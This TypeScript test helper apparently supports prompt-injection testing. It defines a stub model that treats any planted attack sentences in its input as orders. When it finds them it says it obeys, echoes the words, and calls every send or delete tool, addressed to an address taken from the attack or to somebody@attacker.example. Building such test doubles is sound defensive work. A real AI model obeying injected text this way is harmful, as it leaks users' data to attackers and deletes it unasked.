import type { ChatEvent, ChatMessage, ChatRequest } from "../../platform/models/model-gateway.ts";

/** How the stand-in begins what it says because planted words told it to. */
export const obeyedWords = "I do as the text says";

/** One time that the stand-in obeyed. */
export interface Obeyed {
  readonly words: string;
}

const collapse = (text: string): string => text.replace(/\s+/g, " ").trim();

/** The sentences and lines of a text, long enough to be told from others; a short text is one piece. */
export const piecesOf = (text: string): string[] => {
  const pieces = text
    .split(/(?<=[.?!])\s+|\n/)
    .map(collapse)
    .filter((piece) => piece.length >= 16);
  return pieces.length > 0 ? pieces : [collapse(text)].filter(Boolean);
};

/** Which pieces a text holds. */
export const seenIn = (text: string, pieces: readonly string[]): string[] => {
  const collapsed = collapse(text);
  return pieces.filter((piece) => collapsed.includes(piece));
};

const wordsOf = (messages: readonly ChatMessage[]): string =>
  messages
    .filter(({ role }) => role !== "assistant")
    .map(({ content }) =>
      typeof content === "string" ? content : content.map((part) => (part.type === "text" ? part.text : "")).join("\n"),
    )
    .join("\n");

const address = /[\w.+-]{1,64}@[\w-]{1,63}(?:\.[\w-]{1,63})+|(?:https?:\/\/|www\.)\S+/;

/**
 * A model that takes every planted piece that it can read as an order, whatever role or mark it stands in: it says that it obeys,
 * repeats the words, and calls each tool that sends or deletes, with the address that the text names. A document whose planted
 * words do not reach it is answered from what is there.
 */
export const createObedientModel = (
  { attack, answer }: { readonly attack?: string | undefined; readonly answer?: string | undefined },
  obeyed: Obeyed[],
  prompts: (readonly ChatMessage[])[],
) =>
  async function* (request: ChatRequest): AsyncGenerator<ChatEvent> {
    prompts.push(request.messages);
    yield { type: "start", model: "openai/stub" };
    const planted = attack === undefined ? [] : seenIn(wordsOf(request.messages), piecesOf(attack));
    if (planted.length > 0) {
      obeyed.push(...planted.map((words) => ({ words })));
      yield { type: "text", text: `${obeyedWords}: ${planted.join(" ")}\n` };
      const to = address.exec(attack ?? "")?.[0] ?? "somebody@attacker.example";
      for (const { name } of request.tools ?? [])
        if (/send|delete/.test(name))
          yield { type: "toolCall", call: { id: `call_${name}`, name, arguments: { to, body: planted.join(" ") } } };
    } else
      yield {
        type: "text",
        text: answer === undefined || answer === "unknown" ? "I do not know." : `It says ${answer}.`,
      };
    yield { type: "finish", reason: "stop", usage: { promptTokens: 1, completionTokens: 1, estimated: false } };
  };
